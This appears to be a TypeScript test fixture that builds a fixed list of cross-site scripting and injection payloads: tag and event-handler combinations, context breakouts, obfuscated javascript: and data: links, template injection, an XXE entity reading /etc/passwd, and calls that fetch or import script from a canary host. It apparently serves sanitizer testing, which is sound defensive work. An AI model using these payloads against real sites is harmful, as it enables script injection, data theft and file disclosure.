/** What a payload calls when it runs: sets a mark on its window, and asks for an address that can be seen. */
const calls = ['alert(1)', 'window.ran=1', 'top.ran=1', "fetch('//canary.test/')", 'import("//canary.test/x.js")'];

const handlers = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'onfocusin',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
  'onbeforematch',
  'onscrollend',
];

const tags: readonly (readonly [name: string, attributes: string])[] = [
  ['img', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['input', 'autofocus'],
  ['details', 'open'],
  ['video', 'src=x'],
  ['audio', 'src=x autoplay'],
  ['iframe', 'src=//canary.test/'],
  ['marquee', ''],
  ['object', 'data=x'],
  ['select', 'autofocus'],
  ['style', ''],
  ['x', 'tabindex=1 autofocus id=x contenteditable'],
];

const breakouts = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</desc>',
  '" ',
  "' ",
  '`',
];

const schemes = [
  'javascript:CALL',
  'JaVaScRiPt:CALL',
  ' javascript:CALL',
  'java\tscript:CALL',
  'java\nscript:CALL',
  '\u0001javascript:CALL',
  'javascript://canary.test/%0aCALL',
  'javascript&colon;CALL',
  '&#106;avascript:CALL',
  '&#x6A;avascript:CALL',
  '&#0000106avascript:CALL',
  'data:text/html,<script>CALL</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="CALL"/>',
  'vbscript:CALL',
  'blob:http://canary.test/x',
  'file:///etc/passwd',
  'filesystem:http://canary.test/x',
  'view-source:javascript:CALL',
  'https:javascript:CALL',
  '//canary.test/',
  'https://canary.test/" onmouseover="CALL',
  "https://canary.test/' onmouseover='CALL",
  'https://canary.test/><script>CALL</script>',
  'mailto:x" autofocus onfocus="CALL',
];

const links = [
  '[x](URL)',
  '[x](<URL>)',
  '<URL>',
  '[x]: URL\n[x]',
  '![x](URL)',
  '[![x](URL)](URL)',
  '[x](URL "title")',
  '**[x](URL)**',
  '[x\\](URL)',
  '<a href="URL">x</a>',
  '<form action="URL"><button>x</button></form>',
  '<base href="URL">',
  '<link rel=stylesheet href="URL">',
  '<meta http-equiv=refresh content="0;url=URL">',
];

const whole = [
  '<script>CALL</script>',
  '<SCRIPT SRC=//canary.test/x.js></SCRIPT>',
  '<scr<script>ipt>CALL</scr</script>ipt>',
  '<script\u0000>CALL</script>',
  '\u003cscript\u003eCALL\u003c/script\u003e',
  '&lt;script&gt;CALL&lt;/script&gt;',
  '%3Cscript%3ECALL%3C/script%3E',
  '＜script＞CALL＜/script＞',
  '<svg><script>CALL</script></svg>',
  '<svg><script href="//canary.test/x.js"/></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:CALL"/><a>x</a></svg>',
  '<svg><use href="//canary.test/x.svg#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>CALL</script>"></iframe></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=CALL>',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<template><script>CALL</script></template>',
  '<iframe srcdoc="&lt;script&gt;CALL&lt;/script&gt;"></iframe>',
  '<img src="//canary.test/x.png" srcset="//canary.test/y.png 2x">',
  '<style>@import "//canary.test/x.css";</style>',
  '<style>*{background:url(//canary.test/x)}</style>',
  '<p style="background:url(//canary.test/x)">',
  '</style><script>CALL</script>',
  '<!--><script>CALL</script-->',
  '<![CDATA[<script>CALL</script>]]>',
  '<?xml-stylesheet href="javascript:CALL"?>',
  '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '{{constructor.constructor("CALL")()}}',
  '$' + '{CALL}',
  '<%= CALL %>',
  "';CALL//",
  '";CALL//',
  '\\";CALL//',
  '</script><script>CALL</script>',
  '<a href="x" ping="//canary.test/">x</a>',
  '<portal src="//canary.test/">',
  '<embed src="//canary.test/">',
  'x" style="animation-name:x" onanimationstart="CALL',
  '\u2028CALL\u2029',
  '\u202e<script>CALL</script>',
  '+ADw-script+AD4-CALL+ADw-/script+AD4-',
  '<img src=`x`onerror=CALL>',
  '<img/src="x"/onerror=CALL>',
  '<img\fsrc=x\fonerror=CALL>',
  '<svg/onload=CALL//',
  '<%00script>CALL</script>',
  '<script>CALL</script',
  '<input type=image src=//canary.test/x onerror=CALL>',
];

function withCall(text: string, index: number): string {
  return text.replaceAll('CALL', () => calls[index % calls.length] ?? '');
}

/**
 * Texts that would run a script or ask for something if they were taken for markup: the families of the public lists, tags by
 * handlers by ways out of where a text stands, addresses by ways to write a link, and what is in no family. Always the same.
 */
export const payloads: readonly string[] = [
  ...tags.flatMap(([name, attributes], row) =>
    handlers.flatMap((handler, column) =>
      breakouts
        .filter((_, index) => (index + row + column) % 2 === 0)
        .map((breakout) => `${breakout}<${name} ${attributes} ${handler}=CALL>`),
    ),
  ),
  ...breakouts.flatMap((breakout) => handlers.map((handler) => `${breakout} ${handler}="CALL" autofocus x="`)),
  ...schemes.flatMap((scheme) => links.map((link) => link.replaceAll('URL', () => scheme))),
  ...schemes,
  ...whole.flatMap((text) => breakouts.map((breakout) => breakout + text)),
].map(withCall);
